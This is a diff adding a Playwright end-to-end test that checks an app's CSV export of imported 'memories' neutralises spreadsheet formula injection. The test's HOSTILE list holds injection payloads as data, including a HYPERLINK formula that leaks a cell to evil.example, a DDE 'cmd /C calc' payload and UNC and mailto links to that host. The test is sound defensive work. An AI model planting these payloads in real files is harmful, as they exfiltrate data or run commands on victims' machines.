@@ -1,0 +1,60 @@
+import { readFileSync } from 'node:fs'
+import AxeBuilder from '@axe-core/playwright'
+import { expect, test } from '@playwright/test'
+import { decodeField } from '../../src/core/csv.ts'
+import { buildManifest, ISSUER } from '../reference/writer.ts'
+import { openProfile } from './profile.ts'
+import { download, fileOf, goTo, importOpened, openApp, openFile, trustKey } from './steps.ts'
+
+const HOSTILE = [
+  '=HYPERLINK("https://evil.example/?"&A1,"Open the report")',
+  '+1+1',
+  '-2+3+cmd|’ /C calc’!A0',
+  '@SUM(1)',
+  '\t=1',
+  '\r\n=1',
+  '  =1',
+  '＝1+1',
+  'x;=1+1',
+  'https://evil.example',
+  '\\\\evil.example\\share',
+  'mailto:a@evil.example',
+]
+
+test('the list that is shown is saved as CSV, and nothing in it runs in a spreadsheet', async () => {
+  const { page, problems, close } = await openProfile(test.info().outputPath('profile'))
+  await openApp(page)
+  await goTo(page, 'Memories')
+  await expect(page.getByRole('button', { name: 'Save as CSV' })).toHaveCount(0)
+  await trustKey(page, ISSUER.pem, '=1+1')
+  const memories = [
+    ...HOSTILE.map((content, i) => ({ content, entity_id: 'hostile', tags: ['=tag', `@${i}`] })),
+    { content: 'plain', entity_id: 'other' },
+  ]
+  await openFile(page, fileOf('=file.json', buildManifest({ memories }).bytes))
+  await importOpened(page)
+
+  await goTo(page, 'Memories')
+  await page.getByRole('button', { name: 'Filter' }).click()
+  await page.getByLabel('Entity').selectOption('hostile')
+  await expect(page.getByTestId('count')).toHaveText(`${HOSTILE.length} of ${memories.length} memories`)
+  await page.getByRole('button', { name: 'Save as CSV' }).click()
+  const dialog = page.getByRole('dialog')
+  await expect(dialog).toContainText('signed by nobody')
+  expect((await new AxeBuilder({ page }).analyze()).violations).toEqual([])
+  const { download: saved, path } = await download(page, () =>
+    dialog.getByRole('button', { name: 'Save the list' }).click(),
+  )
+  await expect(dialog).toHaveCount(0)
+  expect(saved.suggestedFilename()).toMatch(/^memories-\d{4}-\d\d-\d\d\.csv$/)
+
+  const text = readFileSync(path, 'utf8')
+  const records = [...text.matchAll(/("(?:[^"]|"")*")(?:,|\r\n)/g)].map(([, field]) => field!)
+  const rows = Array.from({ length: records.length / 13 }, (_, i) => records.slice(13 * i, 13 * i + 13))
+  expect(rows).toHaveLength(HOSTILE.length + 1)
+  for (const field of records) expect(field).not.toMatch(/^"[\s"]*([=+\-@|%＝]|https?:|mailto:|\\\\)/)
+  expect(new Set(rows.slice(1).map((row) => decodeField(row[4]!)))).toEqual(new Set(HOSTILE))
+  expect(rows.slice(1).every((row) => row[6] === `"'=1+1"` && row[9] === `"'=file.json"`)).toBe(true)
+  expect(problems).toEqual([])
+  await close()
+})
